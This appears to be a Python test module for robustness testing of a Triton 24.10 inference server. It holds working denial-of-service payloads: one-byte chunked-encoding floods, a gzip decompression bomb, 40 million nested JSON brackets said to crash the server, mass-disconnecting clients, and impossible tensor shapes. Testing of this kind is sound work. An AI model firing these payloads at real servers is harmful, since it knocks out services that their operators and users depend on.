"""Requests that would crash, fill or block a Triton 24.10 with default settings; for tests and the soak test.

Each one is small compared with the resources that it would take.
"""

from __future__ import annotations

import gzip
import http.client
import json
import socket
from collections.abc import Callable, Mapping
from dataclasses import dataclass


@dataclass(frozen=True)
class Target:
    """A system of a running server.

    Attributes
    ----------
    http : host:port
    system : name of the system
    rows : input tensor of the network with one row, as JSON: {"name": ..., "shape": ..., "datatype": ..., ...}
    output : name of an output of the network
    recording : a short, valid WAV file
    """

    http: str
    system: str
    rows: Mapping[str, object]
    output: str
    recording: bytes

    def post(self, body: bytes, model: str | None = None, **headers: str) -> int | None:
        """Return the status of an inference request; None if the server hangs up. `A_B` is header A-B."""
        connection = http.client.HTTPConnection(self.http, timeout=30)
        try:
            named = {name.replace("_", "-"): value for name, value in headers.items()}
            connection.request("POST", f"/v2/models/{model or self.system}/infer", body, named)
            return connection.getresponse().status
        except (OSError, http.client.HTTPException):
            return None
        finally:
            connection.close()

    def ask(self, tensor: Mapping[str, object], model: str | None = None, **more: object) -> int | None:
        """Return the status of a request with one input tensor."""
        return self.post(json.dumps({"inputs": [tensor], **more}).encode(), model)

    def ask_network(self, **more: object) -> int | None:
        """Return the status of a request to the network."""
        return self.ask(self.rows, f"{self.system}_network", **more)

    def connect(self) -> socket.socket:
        """Open a raw connection."""
        host, port = self.http.split(":")
        return socket.create_connection((host, int(port)), timeout=20)


AUDIO = {"name": "AUDIO", "shape": [1], "datatype": "BYTES", "data": ["x"]}


def chunks_of_a_byte(target: Target) -> None:
    """Send 300,000 chunks of one byte; each takes a stack frame of libevhtp's parser."""
    with target.connect() as sock:
        path = f"/v2/models/{target.system}/infer"
        sock.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n".encode())
        sock.sendall(b"1\r\na\r\n" * 300_000 + b"0\r\n\r\n")
        sock.recv(100)


def cancelled_calls(target: Target) -> None:
    """Send a recording from 40 clients that disconnect at once."""
    head = (
        f"POST /v2/models/{target.system}_raw/infer HTTP/1.1\r\nHost: x\r\nInference-Header-Content-Length: 0\r\n"
    )
    kind = f"Content-Type: audio/wav\r\nContent-Length: {len(target.recording)}\r\n\r\n"
    for _ in range(40):
        with target.connect() as sock:
            sock.sendall(f"{head}{kind}".encode() + target.recording)


def compressed(target: Target, size: int = 200 << 20) -> int | None:
    """Send compressed zeros that expand to a recording of `size` bytes on the server."""
    headers = {"Content_Encoding": "gzip", "Inference_Header_Content_Length": "0", "Content_Type": "audio/wav"}
    return target.post(gzip.compress(bytes(size)), f"{target.system}_raw", **headers)


def deep(target: Target) -> int | None:
    """Send JSON that is nested too deeply for a stack of 1 GiB: crashes the server."""
    return target.post(b"[" * 40_000_000)


WITHSTOOD: dict[str, Callable[[Target], object]] = {
    "chunks of a byte": chunks_of_a_byte,
    "nested JSON": lambda target: target.post(b"[" * 2_000_000),
    "nested data": lambda target: target.ask(AUDIO | {"data": ["x", [[[["y"]]]]]}),
    "a shape beyond memory": lambda target: target.ask(AUDIO | {"shape": [2**63 - 1]}),
    "a negative shape": lambda target: target.ask(AUDIO | {"shape": [-1]}),
    "classification of a string": lambda target: target.ask(
        AUDIO, outputs=[{"name": "RESULT", "parameters": {"classification": 1}}]
    ),
    "more classes than there are": lambda target: target.ask_network(
        outputs=[{"name": target.output, "parameters": {"classification": 99}}]
    ),
    "a string as sequence_id": lambda target: target.ask_network(
        parameters={"sequence_id": "a", "sequence_start": True}
    ),
    "shared memory that is not there": lambda target: target.ask(
        AUDIO | {"parameters": {"shared_memory_region": "x", "shared_memory_byte_size": 9}}
    ),
    "cancelled calls": cancelled_calls,
}
